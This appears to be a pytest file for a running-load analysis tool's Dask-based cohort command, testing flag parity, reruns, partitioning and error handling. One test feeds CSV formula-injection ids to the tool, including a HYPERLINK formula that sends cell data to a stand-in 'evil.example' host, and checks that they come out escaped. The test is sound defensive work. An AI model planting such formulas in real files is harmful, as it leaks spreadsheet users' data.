"""``hamstring-analyzer cohort``: a real LocalCluster's flags equal per-athlete analyze flags; reruns skip the store; no Dask."""

from __future__ import annotations

import builtins
import datetime as dt
import json
import re

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import hamstring_analyzer as ha
from hamstring_analyzer.analysis import analyze_athlete
from hamstring_analyzer.cli import main
from hamstring_analyzer.cohort import CLOSE_TIMEOUT_S, CohortError, close_client, cohort_tables, run_cohort
from hamstring_analyzer.synthetic_cohort import cohort_athletes, write_daily_log_cohort, write_folder_cohort


def per_athlete_flags(folder, tmp_path) -> list[dict]:
    """What ``hamstring-analyzer analyze FOLDER --json`` writes as flags, from a cache of its own."""
    out = tmp_path / f"{folder.name}.json"
    result = CliRunner().invoke(main, ["analyze", str(folder), "--json", str(out), "--cache-dir", str(tmp_path / "own-cache"), "-q",
                                       "--workers", "1"], catch_exceptions=False)  # fmt: skip
    assert result.exit_code == 0, result.output
    return json.loads(out.read_text(encoding="utf-8"))["flags"]


def cohort_flags(out) -> dict[str, list[dict]]:
    rows = pq.read_table(out / "flags").to_pylist()
    by: dict[str, list[dict]] = {}
    for r in rows:
        by.setdefault(r.pop("athlete"), []).append(r)
    return by


@pytest.fixture(scope="module")
def daily_log(tmp_path_factory):
    root = tmp_path_factory.mktemp("log")
    return write_daily_log_cohort(root / "run_ww_2019_d.csv", cohort_athletes(6, weeks=30, seed=5))


def test_local_cluster_flags_equal_per_athlete_analyze(daily_log, tmp_path):
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["cohort", str(daily_log), "--out", str(out), "--workers", "2", "--athlete-logs", "--partition-rows", "1000"],
                                catch_exceptions=False)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "Dask dashboard: http://" in result.output and "(2 workers)" in result.output
    assert "6 of 6 athletes analysed" in result.output
    assert "6 athletes analysed together on arrays, 0 one by one" in result.output
    assert re.search(r"Daily log: 1[12]\d\d rows in 2 partitions", result.output)  # 6 athletes x 30 weeks, a row a day; ~1,000 rows each
    flags = cohort_flags(out)
    # planted events were found: every long-run spike on its day, every weekly jump in its week
    planted = {str(a.athlete): a.events for a in cohort_athletes(6, weeks=30, seed=5)}
    for name, events in planted.items():
        got = {(f["rule"], f["date"]) for f in flags.get(name, [])}
        weeks_jumped = {f["week_start"] for f in flags.get(name, []) if f["rule"] == "weekly_mileage_jump"}
        for what, day in events:
            if what == "long_run_spike":
                assert ("single_run_spike", day.isoformat()) in got, (name, what, day)
            if what == "weekly_jump":
                assert day.isoformat() in weeks_jumped, (name, what, day)
    assert sum(len(v) for v in flags.values()) > 10
    for name in [str(i) for i in range(6)]:
        expected = per_athlete_flags(out / "partitions" / name, tmp_path)
        key = lambda f: (f["date"], f["rule"], f["run_id"] or "")  # noqa: E731  (the table's order is the tasks')
        assert sorted(flags.get(name, []), key=key) == sorted(expected, key=key), name
    tables = cohort_tables(out)
    assert set(tables["runs"]["athlete"]) == {str(i) for i in range(6)}
    assert {"athlete", "week_start", "distance_m", "acwr"} <= set(tables["weeks"].columns)
    athletes = tables["athletes"].set_index("athlete")
    assert athletes.loc["3", "files_parsed_at_analysis"] == 0  # decoded in batches before, not by the analysis
    assert "speedwork_share" in list(athletes.loc["3", "rules_not_applicable"])
    assert set(athletes.columns) >= {"gender", "age_group", "country", "major", "error"}


def test_rerun_gives_the_same_tables_and_needs_no_store(daily_log, tmp_path):
    out = tmp_path / "out"
    first = run_cohort(daily_log, out, plain=True)
    tables = cohort_tables(out)
    again = run_cohort(daily_log, out, plain=True)
    assert first.log["arrays"] == again.log["arrays"] == 6 and first.parsed_at_analysis == again.parsed_at_analysis == 0
    assert again.flags == first.flags and again.runs == first.runs
    for name, frame in cohort_tables(out).items():
        assert frame.to_json() == tables[name].to_json(), name
    assert not (out / ".parts").exists() and not (out / "partitions").exists()


def test_folder_cohort_of_watch_files_decodes_in_batches(tmp_path):
    root = tmp_path / "team"
    write_folder_cohort(root, cohort_athletes(2, weeks=3, start=dt.date(2026, 3, 2), seed=9), sample_every_s=30)
    (root / "athlete-1" / "broken.fit").write_bytes(b"\x0e\x10garbage")
    out = tmp_path / "out"
    summary = run_cohort(root, out, plain=True)
    assert summary.analysed == 2 and summary.parsed_at_analysis == 0
    assert summary.decode["parsed"] == summary.decode["files"] == len(list(root.rglob("*.fit")))
    runs = cohort_tables(out)["runs"]
    for name in ("athlete-0", "athlete-1"):
        export = ha.load_runs(root / name, use_cache=False, workers=1)
        assert sorted(runs[runs["athlete"] == name]["distance_m"]) == sorted(round(a.distance_m, 1) for a in export.runs)


def test_out_inside_the_root_run_twice_finds_no_phantom_athlete(tmp_path):
    root = tmp_path / "team"
    write_folder_cohort(root, cohort_athletes(2, weeks=2, start=dt.date(2026, 3, 2), seed=4), sample_every_s=30)
    for _ in range(2):  # the second run must not take the first run's tables and store for a third athlete
        summary = run_cohort(root, root / "tables", plain=True)
        assert summary.athletes == summary.analysed == 2
    assert (root / "tables" / ".hamstring-analyzer-report").is_file()


def test_without_dask_a_daily_log_runs_on_local_processes_and_a_team_root_says_how_to_install(monkeypatch, daily_log, tmp_path):
    real_import = builtins.__import__

    def no_dask(name, *args, **kwargs):
        if name.split(".")[0] in ("dask", "distributed"):
            raise ImportError(f"No module named {name!r}")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_dask)
    said = []
    summary = run_cohort(daily_log, tmp_path / "out", workers=2, say=said.append)
    assert summary.analysed == 6 and summary.workers == 2 and summary.dashboard is None
    assert said[-1] == "Dask is not installed: 2 local processes (pip install 'hamstring-analyzer[cohort]' for a cluster)."
    assert sum(summary.flags.values()) == len(pq.read_table(tmp_path / "out" / "flags"))
    team = tmp_path / "team"
    write_folder_cohort(team, cohort_athletes(1, weeks=1, start=dt.date(2026, 3, 2), seed=9), sample_every_s=60)
    with pytest.raises(CohortError, match=r"pip install 'hamstring-analyzer\[cohort\]'"):
        run_cohort(team, tmp_path / "out2")
    result = CliRunner().invoke(main, ["cohort", str(team), "--out", str(tmp_path / "out2")])
    assert result.exit_code == 1
    assert result.output == "Error: the cohort command needs Dask: pip install 'hamstring-analyzer[cohort]'\n"


def test_problems_csv_quotes_athlete_ids_a_spreadsheet_would_run(daily_log, tmp_path):
    """Issue 27: an athlete id like ``=HYPERLINK(...)`` in a row left out is written to problems.csv with a ``'`` in front
    (a spreadsheet shows it, never runs it), and reads back to the id as typed; plain ids are written as they are."""
    import csv

    from hamstring_analyzer.safetext import unescape_formula

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+1+1", "-1+1", "'=1"]
    log = tmp_path / daily_log.name
    text = daily_log.read_text()
    rows = [[90000 + k, "not a date", who, 5.0, 30.0, "F", "18 - 34", "Spain", "Berlin"] for k, who in enumerate(hostile + ["plain 7"])]
    with log.open("w", newline="") as f:
        f.write(text)
        csv.writer(f, lineterminator="\n").writerows(rows)
    summary = run_cohort(log, tmp_path / "out", plain=True)
    with (tmp_path / "out" / "problems.csv").open(newline="") as f:
        written = list(csv.DictReader(f))
    cells = {r["line"]: r["athlete"] for r in written if r["reason"].startswith("no readable date")}
    assert sorted(cells.values()) == sorted(["'" + h for h in hostile] + ["plain 7"])
    assert sorted(unescape_formula(c) for c in cells.values()) == sorted(hostile + ["plain 7"])
    assert len(summary.problems) == len(written) == len(hostile) + 1
    assert [p["athlete"] for p in summary.problems] == hostile + ["plain 7"]  # the summary keeps the ids as typed


@pytest.mark.parametrize("address", ["tcp://[not-an-address", "inproc://nowhere"])
def test_a_scheduler_address_that_is_none_is_one_line(daily_log, tmp_path, address):
    result = CliRunner().invoke(main, ["cohort", str(daily_log), "--out", str(tmp_path / "out"), "--scheduler", address])
    assert result.exit_code == 1
    assert result.output.splitlines()[-1] == f"Error: {address}: not a Dask scheduler's address (e.g. tcp://10.0.0.5:8786)"
    assert "internal error" not in result.output


# ------------------------------------------------- the array path (issue 29) ---


def _quirk_rows(first_index: int) -> list[list]:
    """Athletes the generator does not make, as rows of the public log's shape (index, datetime, athlete, km, min, ...)."""
    rows = []
    attrs = ["F", "35 - 54", "Kenya", "BERLIN 2019"]

    def add(day, who, km, minutes):
        rows.append([first_index + len(rows), day.isoformat(), who, km, minutes, *attrs])

    add(dt.date(2019, 3, 5), "one-row", 12.0, 61.0)
    for k in range(10):
        add(dt.date(2019, 2, 1) + dt.timedelta(days=k), "zeros", 0.0, 0.0)
    for k in range(70):  # 10 weeks of running, a break of 130 days (start from scratch), then a big first week back
        if k % 7 in (0, 2, 4, 5):
            add(dt.date(2019, 1, 7) + dt.timedelta(days=k), "restart", 8.0 + (k % 5), 45.0)
    for k in range(6):
        add(dt.date(2019, 9, 2) + dt.timedelta(days=k), "restart", 14.0, 80.0)
    for k in range(0, 84, 2):  # across the new year: messages carry the year
        add(dt.date(2018, 11, 19) + dt.timedelta(days=k), " 77", 6.0 + (k % 9) + (9.0 if k == 70 else 0.0), "")
    for k in range(40):  # two rows on one day: the per-athlete path judges it
        add(dt.date(2019, 4, 1) + dt.timedelta(days=k), "twice", 7.0 + k % 3, 40.0)
    add(dt.date(2019, 4, 10), "twice", 3.0, 15.0)
    return rows


@pytest.fixture(scope="module")
def quirky_log(tmp_path_factory):
    import csv

    path = write_daily_log_cohort(tmp_path_factory.mktemp("quirky") / "log.csv", cohort_athletes(24, weeks=40, seed=29))
    n = len(path.read_text().splitlines()) - 1
    with path.open("a", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerows(_quirk_rows(n))
        w.writerow([n + 900, "2019-05-01", "garbage", "abc", 30.0, "M", "18 - 34", "Spain", "X"])
        w.writerow([n + 901, "2019-05-01", "garbage"])
    return path


def test_arrays_give_exactly_what_analyze_gives_each_athlete_alone(quirky_log, tmp_path):
    """28 athletes (24 generated, a one-row athlete, a return from 130 days off, a history across the new year without
    durations, one with two rows on a day): flags, weeks and runs equal ``analyze`` on each athlete's own log."""
    out = tmp_path / "out"
    summary = run_cohort(quirky_log, out, plain=True, partition_rows=2000, athlete_logs=True)
    assert summary.log["partitions"] >= 3
    assert summary.log["arrays"] == 27 and summary.log["one_by_one"] == 1  # "twice" went the per-athlete way
    tables = {t: pq.read_table(out / t).to_pylist() for t in ("runs", "weeks", "flags")}
    names = sorted({r["athlete"] for r in tables["runs"]})
    assert len(names) == 28 and "77" in names and "zeros" not in names
    compared = {"flags": 0, "weeks": 0, "runs": 0}
    for name in names:
        result = analyze_athlete(out / "partitions" / name, workers=1, cache_dir=tmp_path / "own" / name)
        doc = result.to_dict()
        for table, key in (("flags", lambda r: (r["date"], r["rule"], r["run_id"] or "")), ("weeks", lambda r: r["week_start"]),
                           ("runs", lambda r: r["id"])):  # fmt: skip
            got = sorted(({k: v for k, v in r.items() if k != "athlete"} for r in tables[table] if r["athlete"] == name), key=key)
            assert got == sorted(doc[table], key=key), (name, table)
            compared[table] += len(got)
    assert compared["flags"] > 40 and compared["weeks"] > 1000
    flags = [f for f in tables["flags"] if f["athlete"] in ("restart", "77")]
    assert {(f["athlete"], f["rule"], f["date"]) for f in flags} >= {("restart", "layoff_return", "2019-09-02")}
    assert any("2019" in f["message"] for f in flags if f["athlete"] == "77")  # across a new year: days with their year


def test_rows_left_out_are_said_by_line_and_an_all_zero_athlete_by_name(quirky_log, tmp_path):
    from hamstring_analyzer.readers.daily_log import read_daily_log_table

    out = tmp_path / "out"
    summary = run_cohort(quirky_log, out, plain=True, partition_rows=2000)
    whole = read_daily_log_table(quirky_log).problems  # the whole-file reader's lines and reasons
    assert [(p["line"], p["reason"]) for p in summary.problems] == [(p["line"], p["reason"]) for p in whole]
    n = len(quirky_log.read_text().splitlines())
    assert [(p["line"], p["reason"]) for p in summary.problems] == [(n - 1, "no readable distance"), (n, "3 cells where the header has 9")]
    assert (out / "problems.csv").read_text().splitlines()[1].startswith(f"{n - 1},garbage,no readable distance,")
    athletes = cohort_tables(out)["athletes"].set_index("athlete")
    assert athletes.loc["zeros", "error"].startswith("no running day") and athletes.loc["zeros", "country"] == "Kenya"
    assert athletes.loc["one-row", "runs"] == 1 and athletes.loc["one-row", "weeks"] == 1 and athletes["error"].isna()["one-row"]
    assert ("zeros", athletes.loc["zeros", "error"]) in summary.errors and summary.analysed == 28


def test_partitions_hold_whole_athletes_and_order_does_not_matter(quirky_log, tmp_path):
    """Rows shuffled (athletes interleaved): cut by a hash of the athlete, every athlete's rows meet in one partition."""
    import random

    from hamstring_analyzer.readers.daily_log_parts import cut_daily_log, read_partition

    lines = quirky_log.read_text().splitlines()
    body = [ln for ln in lines[1:] if "garbage" not in ln]
    random.Random(7).shuffle(body)
    shuffled = tmp_path / "shuffled.csv"
    shuffled.write_text("\n".join([lines[0], *body]) + "\n")
    cut = cut_daily_log(shuffled, tmp_path / "parts", 5)
    seen: dict[str, int] = {}
    for k, path in enumerate(cut.files):
        frame = read_partition(path)
        assert len(frame) < 0.5 * len(body)  # a partition is a share of the file, not the file
        for who in set(frame["athlete"].str.strip()):
            assert seen.setdefault(who, k) == k, who
    assert cut.rows == len(body) and len(cut.files) == 5 and len(seen) == 29
    a, b = run_cohort(quirky_log, tmp_path / "a", plain=True, partition_rows=2000), run_cohort(shuffled, tmp_path / "b", plain=True, partition_rows=3000)
    assert (a.flags, a.runs, a.analysed) == (b.flags, b.runs, b.analysed)
    flags = [cohort_tables(tmp_path / x)["flags"].sort_values(["athlete", "date", "rule"]).reset_index(drop=True) for x in "ab"]
    assert flags[0].to_json() == flags[1].to_json()


def test_a_parquet_log_gives_the_flags_of_its_csv(tmp_path):
    athletes = cohort_athletes(8, weeks=30, seed=3)
    csv_log = write_daily_log_cohort(tmp_path / "log.csv", athletes)
    parquet_log = write_daily_log_cohort(tmp_path / "log.parquet", athletes)
    a = run_cohort(csv_log, tmp_path / "a", plain=True)
    b = run_cohort(parquet_log, tmp_path / "b", plain=True, partition_rows=1000)
    assert b.log["partitions"] >= 2 and (a.flags, a.runs) == (b.flags, b.runs) and sum(a.flags.values()) > 5
    key = ["athlete", "date", "rule"]
    assert (cohort_tables(tmp_path / "a")["flags"].sort_values(key).to_json(orient="records")
            == cohort_tables(tmp_path / "b")["flags"].sort_values(key).to_json(orient="records"))  # fmt: skip


def test_week_sums_add_as_pandas_adds_them():
    """A week's distance decides a flag at its threshold: summed on arrays, it is pandas' groupby sum to the last bit."""
    import numpy as np
    import pandas as pd

    from hamstring_analyzer.cohort_rules import kahan_group_sum

    rng = np.random.default_rng(29)
    labels = np.sort(rng.integers(0, 3000, 20_000))
    values = np.round(rng.uniform(0, 42_195, len(labels)), 2) * rng.choice([1.0, 1e-3, 1e5], len(labels))
    values[rng.random(len(labels)) < 0.05] = np.nan
    rank = np.arange(len(labels)) - np.searchsorted(labels, labels)
    got = kahan_group_sum(labels, values, 3000, rank)
    expected = pd.Series(values).groupby(labels).sum().reindex(range(3000), fill_value=0.0).to_numpy()
    assert np.array_equal(got, expected)
    assert not np.array_equal(got, np.bincount(labels, weights=np.nan_to_num(values), minlength=3000))  # a plain sum differs


def test_a_folder_of_logs_meets_each_athletes_rows_from_every_file(daily_log, tmp_path):
    """A log split by date into two files (each athlete in both): one athlete, one history, the flags of the whole file."""
    lines = daily_log.read_text().splitlines()
    header, rows = lines[0], sorted(lines[1:], key=lambda ln: ln.split(",")[1])
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "run_2019_a.csv").write_text("\n".join([header, *rows[: len(rows) // 2]]) + "\n")
    (folder / "run_2019_b.csv").write_text("\n".join([header, *rows[len(rows) // 2 :], "9,2019-13-01,3,5,30,F,x,y,z"]) + "\n")
    whole = run_cohort(daily_log, tmp_path / "whole", plain=True)
    split = run_cohort(folder, tmp_path / "split", plain=True, partition_rows=1000)
    assert (split.flags, split.runs, split.analysed) == (whole.flags, whole.runs, whole.analysed) == (whole.flags, whole.runs, 6)
    key = ["athlete", "date", "rule"]
    assert (cohort_tables(tmp_path / "whole")["flags"].sort_values(key).to_json(orient="records")
            == cohort_tables(tmp_path / "split")["flags"].sort_values(key).to_json(orient="records"))  # fmt: skip
    assert [(p["file"], p["line"]) for p in split.problems] == [(str(folder / "run_2019_b.csv"), len(rows) - len(rows) // 2 + 2)]


class _Closing:
    """A Dask client or cluster that notes the timeout it is closed with, and times out if told to."""

    def __init__(self, stuck=False, cluster=None):
        self.stuck, self.cluster, self.closed_with = stuck, cluster, None

    def close(self, timeout=None):
        self.closed_with = timeout
        if self.stuck:
            raise TimeoutError("timed out")


def test_a_local_cluster_that_does_not_stop_is_an_error_not_a_hang():
    """``LocalCluster.close()`` waits for ever by default: both closes get a timeout, and running out of it says so."""
    cluster = _Closing()
    client = _Closing(cluster=cluster)
    close_client(client)
    assert client.closed_with == cluster.closed_with == CLOSE_TIMEOUT_S == 60
    with pytest.raises(CohortError, match="^the local Dask cluster did not stop within 60 s"):
        close_client(_Closing(cluster=_Closing(stuck=True)))
